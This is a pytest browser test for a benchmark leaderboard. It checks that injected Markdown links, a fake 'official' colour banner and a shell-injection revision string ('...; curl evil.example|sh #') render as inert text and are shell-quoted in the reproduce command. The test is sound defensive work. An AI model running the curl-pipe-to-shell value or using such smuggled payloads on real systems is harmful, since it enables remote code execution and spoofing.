"""Markdown and shell injection, checked in the rendered board in a real browser (Debian's chromium).

A submission whose every free-text field carries a payload (a Markdown link and a Streamlit colour
directive in the CPU name and a package name, a shell command in the revision) is accepted, as it
may be: these are printable strings. What it must not do is render: the model page shows the
payloads as literal text, no link to the payload's host exists in the page, and the command the
board prints to reproduce the run quotes the revision so that pasting it runs nothing else.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from factories import make_submission
from test_browser import CHROMIUM_ARGS, chromium, serving

from harness import store, submit

__all__ = ["chromium"]  # the fixture, imported so that pytest finds it here

LINK = "[Official SOTA](https://evil.example)"
BANNER = ":red[**OFFICIAL REFERENCE RUN**]"
REVISION = "https://evil.example; curl evil.example|sh #"


@pytest.fixture(scope="module")
def hostile_board(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    work = tmp_path_factory.mktemp("hostile-browser")
    results = make_submission("acme/x")
    environment = results.environment.model_copy(
        update={
            "hardware": results.environment.hardware.model_copy(update={"cpu": f"{LINK} {BANNER}"}),
            "packages": {**results.environment.packages, LINK: BANNER},
        }
    )
    model = results.model.model_copy(update={"revision": REVISION})
    hostile = results.model_copy(update={"environment": environment, "model": model})
    verdicts = submit.check(hostile, "hostile.json", None)  # accepted: printable text, consistent scores
    assert [verdict.verified for verdict in verdicts] == [True]
    url = f"sqlite:///{work / 'board.sqlite'}"
    engine = store.connect(url)
    store.ingest(engine, hostile, "submission")
    engine.dispose()
    with serving(url, work) as base:
        yield f"{base}?suite=beir&view=Model"


def test_payloads_render_as_text_and_the_command_is_quoted(chromium: str, hostile_board: str) -> None:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, headless=True, args=CHROMIUM_ARGS)
        try:
            page = browser.new_page(viewport={"width": 1600, "height": 2400})
            page.goto(hostile_board, wait_until="domcontentloaded")
            page.get_by_role("tab", name="Model").wait_for(timeout=45_000)
            page.get_by_role("tab", name="Model").click()
            page.get_by_text("Harness and environment").wait_for(timeout=20_000)
            page.get_by_text("Per-dataset breakdown").wait_for(timeout=10_000)
            page.wait_for_timeout(1500)
            text = page.inner_text("body")
            html = page.content()
            code = " ".join(page.locator("code").all_inner_texts())
        finally:
            browser.close()
    assert page_is_safe(text, html, code)


def page_is_safe(text: str, html: str, code: str) -> bool:
    # the payloads are on the page as the literal characters a file held
    assert LINK in html, "the CPU name's Markdown link is not shown literally"
    assert BANNER in html, "the colour directive is not shown literally"
    # ... and none of them became markup: no link to the payload's host, no banner styling
    at = html.find('href="https://evil.example')
    assert at < 0, html[max(0, at - 600) : at + 300]
    assert "<strong>OFFICIAL REFERENCE RUN</strong>" not in html
    # the reproduce command quotes the revision: pasted into a shell it is one argument
    assert f"--revision '{REVISION}'" in code, code
    assert f"--revision {REVISION}" not in code
    # the row says what it is: a submission, not a reference
    assert "submitted" in text
    return True
